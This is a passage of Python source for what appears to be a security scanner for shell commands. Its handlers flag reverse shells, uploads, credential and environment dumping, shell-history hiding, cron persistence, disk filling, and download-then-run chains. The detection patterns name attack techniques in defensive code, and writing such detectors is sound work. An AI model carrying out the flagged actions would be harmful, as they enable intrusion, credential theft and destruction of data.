    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    flags, targets = _flags_and_targets(args)
    if any(f.startswith("-i") or f == "--in-place" for f in flags):
        for t in targets[1:]:
            s.add_verdict("write-path", paths.write_verdict(_shell_path(t)), line)


def _perms(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    _, targets = _flags_and_targets(args)
    if not targets:
        return
    mode = targets[0]
    if prog == "chmod" and re.search(r"(^|[ugoa,])\+[rwx]*s|^[0-7]?[4-7][0-7]{3}$", mode):
        s.add("setuid", line, "sets the setuid/setgid bit")
    for t in targets[1:]:
        where = paths.locate(paths.normalize(_shell_path(t)))
        if where in (paths.ROOT, paths.HOME, paths.SYSTEM):
            s.add("change-perms", line, f"changes ownership or permissions of {t}")


def _net_download(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    host = _host(args)
    upload = False
    for idx, a in enumerate(args):
        if re.match(
            r"^(-d|--data\S*|-F|--form\S*|-T|--upload-file|--post-data|--post-file|"
            r"--body-data|--body-file|--json)(=|$)",
            a,
        ) or (a.startswith("-d") and prog == "curl" and len(a) > 2):
            upload = True
        if a in ("-X", "--request", "--method") and idx + 1 < len(args):
            if args[idx + 1].upper() in ("POST", "PUT", "PATCH"):
                upload = True
        if a in ("-o", "--output", "-O", "--output-document") and idx + 1 < len(args):
            s.add_verdict("write-path", paths.write_verdict(_shell_path(args[idx + 1])), line)
    if upload or (prog == "http" and any("=" in a for a in args)):
        s.add("upload", line, f"sends data to {host}")
    else:
        s.add("download", line, f"downloads from {host}")


def _raw_net(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    text = " ".join(args)
    if any(a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args) or re.search(
        r"\b(EXEC|SYSTEM):", text, re.IGNORECASE
    ):
        s.add("reverse-shell", line, f"opens a remote shell over the network ({prog})")
        return
    if any(re.fullmatch(r"-[a-zA-Z]*l[a-zA-Z]*", a) for a in args) or "LISTEN" in text.upper():
        s.add("listen", line, f"listens for network connections ({prog})")
        return
    s.add("raw-connection", line, f"opens a raw network connection to {_host(args)} ({prog})")


def _extract(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    """`tar -x -C /`, `unzip -d /`: an archive unpacked over system files or the home dir."""
    if prog == "tar" and not any(
        a == "--extract" or a == "--get" or re.fullmatch(r"-?[a-zA-Z]*x[a-zA-Z]*", a)
        for a in args[:1] + [a for a in args if a.startswith("-")]
    ):
        return
    target = None
    for idx, a in enumerate(args):
        if a in ("-C", "--directory", "-d") and idx + 1 < len(args):
            target = args[idx + 1]
        elif a.startswith("--directory="):
            target = a.split("=", 1)[1]
    if target is None:
        return
    where = paths.locate(paths.normalize(_shell_path(target)))
    if where in (paths.ROOT, paths.SYSTEM):
        s.add("extract-system", line, f"unpacks an archive over {target} (replaces system files)")
    elif where in (paths.HOME, paths.HOME_SUB):
        s.add(
            "extract-home",
            line,
            f"unpacks an archive into {target} (its members can replace start-up files and "
            "keys in the home directory)",
            severity="high" if where == paths.HOME else "medium",
        )


def _remote(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    host = _host(args)
    if prog == "ssh":
        s.add("ssh", line, f"opens an SSH session to {host}")
        rest = [a for a in args if not a.startswith("-")]
        if len(rest) > 1:
            s.findings.extend(s.nested(" ".join(rest[1:]), line))
        return
    s.add("remote-copy", line, f"copies data to or from {host} ({prog})")


def _env_dump(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog == "printenv":
        names = [a for a in args if not a.startswith("-")]
        if not names:
            s.add("env-dump", line, "dumps the whole environment (API keys included)")
        for n in names:
            if is_secret_name(n):
                s.add("secret-variable", line, f"prints the secret variable {n}")
        return
    if prog in ("set", "export", "declare", "typeset"):
        if not args or args in (["-p"], ["-x"], ["-px"]):
            s.add("env-dump", line, "dumps the whole environment (API keys included)")
        if prog == "export":
            for a in args:
                m = re.match(r"^(HISTFILE|HISTSIZE|HISTFILESIZE)=", a)
                if m:
                    s.add("hide-history", line, "hides shell history")
                m2 = re.match(r"^(LD_PRELOAD|PYTHONSTARTUP|PROMPT_COMMAND|BASH_ENV)=", a)
                if m2:
                    s.add("preload", line, f"sets {m2.group(1)} (runs code inside other programs)")
        if prog == "set" and args[:2] == ["+o", "history"]:
            s.add("hide-history", line, "turns shell history off")


def _history(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog == "history" and any(a in ("-c", "-w", "-d") for a in args):
        s.add("hide-history", line, "erases shell history")
    if prog == "unset" and any(a.startswith("HIST") for a in args):
        s.add("hide-history", line, "hides shell history")


def _eval(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    subs_text = " ".join(t for t, _ in cmd.subs)
    if any(re.search(rf"\b{d}\b", subs_text) for d in DOWNLOADERS):
        s.add("download-exec", line, "evaluates code downloaded from the network")
    elif DECODERS.search(subs_text):
        s.add("decoded-exec", line, "evaluates a decoded payload")
    else:
        s.add("eval", line, "evaluates a string as shell code")
    s.findings.extend(s.nested(" ".join(args), line))


def _cron(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog == "crontab":
        if args and all(a in ("-l", "-u") or not a.startswith("-") for a in args) and "-l" in args:
            return
        s.add("cron", line, "installs a cron job (crontab)")
        return
    if prog in ("at", "batch"):
        if any(a in ("-l", "-r", "-d") for a in args):
            return
        s.add("at-job", line, f"schedules a command to run later ({prog})")
        return
    if prog in ("systemctl", "launchctl", "update-rc.d", "chkconfig", "rc-update"):
        verbs = [a for a in args if not a.startswith("-")]
        if (
            prog == "systemctl"
            and verbs
            and verbs[0] in ("poweroff", "reboot", "halt", "kexec", "suspend", "hibernate")
        ):
            s.add("shutdown", line, f"shuts the machine down ({verbs[0]})")
            return
        if (
            prog == "systemctl"
            and verbs
            and verbs[0] not in ("enable", "link", "edit", "mask", "set-property", "daemon-reload")
        ):
            if verbs[0] in ("stop", "kill", "disable"):
                s.add("service-stop", line, f"stops system services ({prog})")
            return
        s.add("service", line, f"installs a service ({prog})")


def _kill(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog == "killall5":
        s.add("kill-all", line, "kills every process")
        return
    if prog == "kill":
        pids: list[str] = []
        skip = False
        for a in args:
            if skip:
                skip = False
                continue
            if a in ("-s", "-n"):
                skip = True
                continue
            if a == "-1" and pids == [] and any(x != "-1" for x in args[args.index(a) + 1 :]):
                continue  # signal number 1 (SIGHUP) followed by pids
            if re.fullmatch(r"-\w+", a) and a != "-1":
                continue
            pids.append(a)
        if "-1" in pids or "0" in pids:
            s.add("kill-all", line, "kills every process it may signal")
        elif any(p in ("$PPID", "${PPID}", "1") for p in pids):
            s.add("kill-parent", line, "kills the parent process (the notebook server)")
        elif pids:
            s.add("kill", line, "kills a process")
        return
    targets = [a for a in args if not a.startswith("-")]
    severity = (
        "high"
        if any(
            re.search(r"python|jupyter|ipykernel|sshd|init|systemd|bash|node", t) for t in targets
        )
        or "-u" in args
        else "medium"
    )
    s.add("kill-by-name", line, f"kills processes by name ({prog})", severity=severity)


def _shutdown(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog in ("init", "telinit") and not (args and args[0] in ("0", "6")):
        return
    s.add("shutdown", line, f"shuts the machine down ({prog})")


def _fill(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    to_file = any(
        op in (">", ">>", "&>", "&>>") and not t.startswith("/dev/null") for op, t in cmd.redirects
    )
    if prog == "yes" and to_file:
        s.add("fill-disk", line, "writes without end to a file (fills the disk)")
        return
    if (
        prog == "cat"
        and to_file
        and any(a in ("/dev/zero", "/dev/urandom", "/dev/random") for a in args)
    ):
        s.add("fill-disk", line, "copies an endless device into a file")
        return
    if prog == "head" and to_file:
        for idx, a in enumerate(args):
            if a in ("-c", "--bytes") and idx + 1 < len(args):
                size = _size_bytes(args[idx + 1])
                if size is not None and size >= BIG_BYTES:
                    s.add("fill-disk", line, f"writes {args[idx + 1]} to disk")
    if prog in ("fallocate", "truncate"):
        for idx, a in enumerate(args):
            if a in ("-l", "--length", "-s", "--size") and idx + 1 < len(args):
                size = _size_bytes(args[idx + 1])
                if size is not None and size >= BIG_BYTES:
                    s.add(
                        "fill-disk",
                        line,
                        f"allocates {args[idx + 1]} on disk",
                        severity="high" if prog == "fallocate" else "medium",
                    )
        _, targets = _flags_and_targets(args)
        for t in targets:
            if not re.fullmatch(r"[\d.]+[KMGTPE]?i?B?", t, re.IGNORECASE):
                s.add_verdict("write-path", paths.write_verdict(_shell_path(t)), line)
    if prog in ("stress", "stress-ng"):
        s.add("stress", line, f"exhausts CPU or memory on purpose ({prog})")


def _firewall(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if prog in ("iptables", "ip6tables", "nft", "ufw"):
        s.add("firewall", line, f"changes the firewall ({prog})")
    elif prog in ("useradd", "adduser", "usermod", "passwd", "chpasswd", "userdel", "visudo"):
        s.add("accounts", line, f"changes user accounts ({prog})")
    elif prog in ("insmod", "modprobe", "rmmod"):
        s.add("kernel-module", line, f"loads kernel modules ({prog})")
    elif prog in ("mount", "umount"):
        s.add("mount", line, f"mounts or unmounts filesystems ({prog})")


def _pip_cmd(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    s._pip(args, line)


def _git(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if "config" in args and any(
        re.search(r"hookspath|fsmonitor|sshcommand|core\.editor", a, re.IGNORECASE) for a in args
    ):
        s.add("git-hook", line, "makes git run a program (git config)")


def _gpg(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    if any(a.startswith("--export-secret") for a in args):
        s.add("export-keys", line, "exports private keys (gpg)")


def _cloud(
    s: BashScanner,
    prog: str,
    args: list[str],
    cmd: Command,
    up: list[Command],
    line: int,
    from_stdin: bool,
) -> None:
    text = " ".join(args)
    if re.search(
        r"print-access-token|print-identity-token|get-session-token|"
        r"configure\s+(get|export)|get-login-password|auth\s+token",
        text,
    ):
        s.add("cloud-token", line, f"prints cloud credentials ({prog})")


_HANDLERS: dict[str, Handler] = {
    "rm": _rm,
    "rmdir": _rm,
    "unlink": _shred,
    "shred": _shred,
    "wipe": _shred,
    "srm": _shred,
    "find": _find,
    "dd": _dd,
    "fdisk": _disk_tool,
    "sfdisk": _disk_tool,
    "parted": _disk_tool,
    "wipefs": _disk_tool,
    "gdisk": _disk_tool,
    "blkdiscard": _disk_tool,
    "cp": _copy,
    "mv": _copy,
    "install": _copy,
    "ln": _copy,
    "rsync": _copy,
    "tee": _copy,
    "touch": _copy,
    "sed": _sed,
    "chmod": _perms,
    "chown": _perms,
    "chgrp": _perms,
    "chattr": _perms,
    "printenv": _env_dump,
    "set": _env_dump,
    "export": _env_dump,
    "declare": _env_dump,
    "typeset": _env_dump,
    "history": _history,
    "unset": _history,
    "eval": _eval,
    "crontab": _cron,
    "at": _cron,
    "batch": _cron,
    "systemctl": _cron,
    "launchctl": _cron,
    "update-rc.d": _cron,
    "chkconfig": _cron,
    "rc-update": _cron,
    "kill": _kill,
    "pkill": _kill,
    "killall": _kill,
    "killall5": _kill,
    "shutdown": _shutdown,
    "reboot": _shutdown,
    "halt": _shutdown,
    "poweroff": _shutdown,
    "init": _shutdown,
    "telinit": _shutdown,
    "yes": _fill,
    "cat": _fill,
    "head": _fill,
    "fallocate": _fill,
    "truncate": _fill,
    "stress": _fill,
    "stress-ng": _fill,
    "iptables": _firewall,
    "ip6tables": _firewall,
    "nft": _firewall,
    "ufw": _firewall,
    "useradd": _firewall,
    "adduser": _firewall,
    "usermod": _firewall,
    "passwd": _firewall,
    "chpasswd": _firewall,
    "userdel": _firewall,
    "visudo": _firewall,
    "insmod": _firewall,
    "modprobe": _firewall,
    "rmmod": _firewall,
    "mount": _firewall,
    "umount": _firewall,
    "pip": _pip_cmd,
    "tar": _extract,
    "unzip": _extract,
    "pip3": _pip_cmd,
    "git": _git,
    "gpg": _gpg,
    "gpg2": _gpg,
    "gcloud": _cloud,
    "aws": _cloud,
    "az": _cloud,
    "gh": _cloud,
}
for _prog in DOWNLOADERS:
    _HANDLERS[_prog] = _net_download
for _prog in RAW_NET:
    _HANDLERS[_prog] = _raw_net
for _prog in REMOTE_COPY:
    _HANDLERS[_prog] = _remote


def scan_bash(
    text: str, first_line: int = 1, python_scan: PythonScan | None = None, depth: int = 0
) -> list[Finding]:
    """Findings for a shell script (messages are reasons: 'deletes the home directory')."""
    return BashScanner(python_scan, depth).scan(text, first_line)


def exfiltration(findings: list[Finding]) -> list[Finding]:
    """Credentials read plus a network send in the same code: that is exfiltration."""
    secrets = [
        f
        for f in findings
        if f.category == "secrets" and severity_rank(f.severity) >= severity_rank("high")
    ]
    network = [
        f
        for f in findings
        if f.category == "network" and severity_rank(f.severity) >= severity_rank("medium")
    ]
    if secrets and network:
        first = min(network, key=lambda f: f.line or 0)
        return [
            rules.finding(
                "exfiltration",
                first.line,
                "reads credentials or the environment and talks to the network "
                f"(likely exfiltration: {secrets[0].message}; {first.message})",
            )
        ]
    return []


# --- chains across commands: download or decode to a file, make it executable, run it -------

_CHAIN_WRAPPERS = WRAPPERS_NO_ARG | {"sudo", "timeout", "env"}


def _plain_words(words: list[str]) -> list[str]:
    """Words without leading assignments and wrappers (`nohup`, `sudo`, `env X=1`)."""
    out = list(words)
    while out and out[0] in RESERVED:
        out = out[1:]
    while out:
        base = out[0].rsplit("/", 1)[-1]
        if re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", out[0]):
            out = out[1:]
        elif base in _CHAIN_WRAPPERS:
            out = out[1:]
            while out and (out[0].startswith("-") or (base == "env" and "=" in out[0])):
                out = out[1:]
            if base == "timeout" and out:
                out = out[1:]
        else:
            break
    return out


def _addresses(text: str) -> list[str]:
    """Hosts and addresses written in a piece of code, for messages."""
    found = re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\b|[a-z][\w.-]*\.[a-z]{2,}:\d+", text)
    return found or ["a remote host"]


def _file_key(path: str, cwd: str) -> str:
    p = _shell_path(path.strip("'\""))
    if not p.startswith(("/", "~")) and cwd:
        p = f"{cwd.rstrip('/')}/{p}"
    return paths.normalize(p)


def _download_files(prog: str, args: list[str]) -> tuple[list[str], str]:
    """Files a curl/wget command writes, and the URL it fetches."""
    url = next((a for a in args if re.match(r"^[a-z]+://", a)), "")
    files: list[str] = []
    remote = False
    for idx, a in enumerate(args):
        short = re.fullmatch(r"-[a-zA-Z]*([oO])", a)
        if prog == "curl" and (a == "--remote-name" or re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*", a)):
            remote = True
        if (a in DOWNLOAD_OUT_FLAGS or short) and idx + 1 < len(args):
            if prog == "curl" and (a == "-O" or (short and short.group(1) == "O")):
                continue
            if args[idx + 1] != "-":
                files.append(args[idx + 1])
        elif a.startswith(("--output=", "--output-document=")):
            files.append(a.split("=", 1)[1])
    remote_name = url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1] if url else ""
    if prog == "curl" and remote and remote_name:
        files.append(remote_name)
    prefix = ""
    for idx, a in enumerate(args):
        if a in ("-P", "--directory-prefix") and idx + 1 < len(args):
            prefix = args[idx + 1].rstrip("/") + "/"
        elif a.startswith("--directory-prefix="):
            prefix = a.split("=", 1)[1].rstrip("/") + "/"
    if prog == "wget" and not files and remote_name and "-O-" not in args:
        files.append(prefix + remote_name)
    return files, url


def chain_findings(pipelines: list[Pipeline], *, across_lines: bool = False) -> list[Finding]:
    """One finding per file that is downloaded or decoded and then run, at any distance.

    `across_lines`: report only chains whose steps are on different lines (the caller already
    judged each line on its own).
    """
    made: dict[str, tuple[str, int, str]] = {}
    executable: dict[str, int] = {}
    cwd = ""
    found: list[Finding] = []
    reported: set[str] = set()
    for pipeline in pipelines:
        decoding = False
        fetched_url = ""
        for cmd in pipeline.commands:
            words = _plain_words(cmd.words)
            outs = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>")]
            if not words:
                continue
            prog = words[0].rsplit("/", 1)[-1]
            args = words[1:]
            if DECODERS.search(" ".join(words)):
                decoding = True
            if prog == "cd" and args:
                cwd = args[0]
                continue
            if prog in DOWNLOADERS:
                files, url = _download_files(prog, args)
                fetched_url = url or "a URL"
                for f in files + outs:
                    made[_file_key(f, cwd)] = ("downloaded", cmd.line, fetched_url)
                continue
            if decoding and outs:
                for f in outs:
                    made[_file_key(f, cwd)] = ("decoded", cmd.line, "")
                continue
            if prog == "tee" and (fetched_url or decoding):
                _, targets = _flags_and_targets(args)
                for f in targets:
                    made[_file_key(f, cwd)] = (
                        ("downloaded", cmd.line, fetched_url)
                        if fetched_url
                        else ("decoded", cmd.line, "")
                    )
                continue
            if prog in ("cp", "mv", "install"):
                _, targets = _flags_and_targets(args)
                if len(targets) >= 2:
                    src = [made.get(_file_key(t, cwd)) for t in targets[:-1]]
                    origin = next((x for x in src if x is not None), None)
                    if origin is not None:
                        made[_file_key(targets[-1], cwd)] = origin
                continue
            if prog == "chmod":
                _, targets = _flags_and_targets(args)
                if targets and EXEC_MODE.match(targets[0]):
                    for t in targets[1:]:
                        if _file_key(t, cwd) in made:
                            executable[_file_key(t, cwd)] = cmd.line
                continue
            run: str | None = None
            if _file_key(words[0], cwd) in made and ("/" in words[0] or words[0].startswith(".")):
                run = words[0]
            elif (
                prog in SHELLS
                or PYTHONS.match(prog)
                or prog in OTHER_INTERPRETERS
                or prog
                in (
                    "source",
                    ".",
                )
            ):
                script = next((a for a in args if not a.startswith("-")), None)
                if script is not None and _file_key(script, cwd) in made:
                    run = script
            if run is None:
                continue
            key = _file_key(run, cwd)
            how, first, url = made[key]
            lines = {first, cmd.line} | ({executable[key]} if key in executable else set())
            if key in reported or (across_lines and len(lines) < 2):
                continue
            reported.add(key)
            steps = (
                f"downloads {url} to {run} (line {first})"
                if how == "downloaded"
                else f"decodes a hidden payload into {run} (line {first})"
            )
            if key in executable:
                steps += f", makes it executable (line {executable[key]})"
            steps += f" and runs it (line {cmd.line})"
            found.append(
                rules.finding(
                    "download-run" if how == "downloaded" else "decode-run",
                    first,
                    steps
                    + (
                        ": runs a program fetched from the network"
                        if how == "downloaded"
                        else ": runs code that was hidden by encoding"
                    ),
                )
            )
    return found


def script_chains(scripts: list[tuple[str, int]]) -> list[Finding]:
    """Chains across separate shell commands (IPython `!` lines): (command, line) pairs."""
    pipelines: list[Pipeline] = []
    for text, line in scripts:
        pipelines.extend(lex(text, line).pipelines)
    return chain_findings(pipelines, across_lines=True)
